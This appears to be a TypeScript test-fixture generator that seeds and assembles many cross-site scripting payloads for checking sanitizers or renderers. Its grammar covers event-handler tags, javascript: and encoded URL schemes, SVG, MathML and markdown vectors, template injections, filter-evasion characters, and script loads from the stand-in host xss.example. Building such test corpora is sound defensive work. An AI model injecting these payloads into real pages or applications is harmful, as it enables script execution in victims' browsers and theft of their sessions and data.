// Texts that run code where a page shows them as markup, made from a grammar of real vectors. Each
// calls `xss(n)` or loads something from `xss.example`.
import { SeededRandom } from "../simulation/kit/seeded-random.ts";

const HOST = "//xss.example";

/** What runs. `n` tells which text it was. */
const calls = [
  (n: number) => `xss(${n})`,
  (n: number) => `top.xss(${n})`,
  (n: number) => `self['xs'+'s'](${n})`,
  (n: number) => `xss.call(0,${n})`,
  (n: number) => `alert(${n})`,
  (n: number) => `eval('xss(${n})')`,
  (n: number) => `[${n}].map(xss)`,
  (n: number) => `setTimeout('xss(${n})')`,
  (n: number) => `import('${HOST}/${n}')`,
  (n: number) => `new Image().src='${HOST}/${n}'`,
];

/** Elements whose events run by themselves, or when the page is used. */
const elements = [
  ["img src=x", "onerror"],
  ["img src=data:,", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["svg/onload=1", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["div popover", "ontoggle"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["iframe src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["a href=# style=position:fixed;inset:0", "onmouseover"],
  ["div style=animation:x", "onanimationstart"],
  ["div style=transition:1s", "ontransitionend"],
  ["p contenteditable autofocus", "onfocus"],
  ["xss tabindex=1 autofocus", "onfocus"],
] as const;

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "vbscript:",
];
const encoded = [
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "javascript&#58;",
  "%6Aavascript:",
  "jav&#x09;ascript:",
];
const separators = [" ", "/", "\t", "\n", "\u000c", " / ", "//"];
const breaks = ["", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "`>", '" ', "' "];
const tricks = ["", "\u202e", "\u200b", "\ufeff", "＜", "\u2028", "e\u0301", "\ud83d\ude00", "가"];

type Vector = (call: string, random: SeededRandom, n: number) => string;

const html: Vector[] = [
  (call, random) => {
    const [element, event] = random.pick(elements);
    const quote = random.pick(["", '"', "'", "`"]);
    const [name, more] = [element.split(" ")[0] ?? "", element.split(" ").slice(1).join(" ")];
    return `<${name}${random.pick(separators)}${more} ${event}=${quote}${call}${quote}>`;
  },
  (call, random) =>
    `<script${random.pick(["", " type=module", " async", "/x"])}>${call}</script${random.pick(["", " ", "\t"])}>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (_, __, n) => `<script src=${HOST}/${n}></script>`,
  (call, random) => `<a href="${random.pick(schemes)}${call}">here</a>`,
  (call, random) => `<a href="${random.pick(encoded)}${call}">here</a>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;">`,
  (call, random) => `<iframe src="${random.pick(schemes)}${call}">`,
  (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  (call) => `<button formaction="javascript:${call}">go</button>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (_, __, n) => `<link rel=stylesheet href=${HOST}/${n}>`,
  (_, __, n) => `<style>@import '${HOST}/${n}';</style>`,
  (_, __, n) => `<div style="background:url(${HOST}/${n})">x</div>`,
  (_, __, n) => `<img src=${HOST}/${n}>`,
];
const svg: Vector[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>here</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<math href="javascript:${call}">here</math>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];
const markdown: Vector[] = [
  (call, random) => `[here](${random.pick(schemes)}${call})`,
  (call, random) => `[here](${random.pick(encoded)}${call})`,
  (call) => `[here](data:text/html,<script>${call}</script>)`,
  (call) => `[here](https://a.example/"onmouseover="${call})`,
  (call) => `![x](x"onerror="${call})`,
  (_, __, n) => `![x](${HOST}/${n})`,
  (call) => `<javascript:${call}>`,
  (call) => `https://a.example/"onclick="${call}`,
  (call) => `https://a.example/<img src=x onerror=${call}>`,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `> <svg onload=${call}>`,
  (call) => `@<img src=x onerror=${call}>`,
  (call) => `[<img src=x onerror=${call}>](https://a.example)`,
];
const templates: Vector[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `__proto__[dangerouslySetInnerHTML]=${call}`,
  (call) => `{"__html":"<img src=x onerror=${call}>"}`,
  (call) => `';${call};//`,
  (call) => `"-${call}-"`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
];
const families = [html, html, svg, markdown, templates];

/** Returns `count` different texts, the same for the same seed. */
export function hostileTexts(count: number, seed: string): string[] {
  const random = new SeededRandom(`hostile-texts-${seed}`);
  const texts = new Set<string>();
  for (let n = 1; texts.size < count; n++) {
    const call = random.pick(calls)(n);
    const vector = random.pick(random.pick(families))(call, random, n);
    const prefix = random.chance(0.5) ? random.pick(breaks) : "";
    const trick = random.chance(0.3) ? random.pick(tricks) : "";
    texts.add(`${prefix}${trick}${vector}`);
  }
  return [...texts];
}
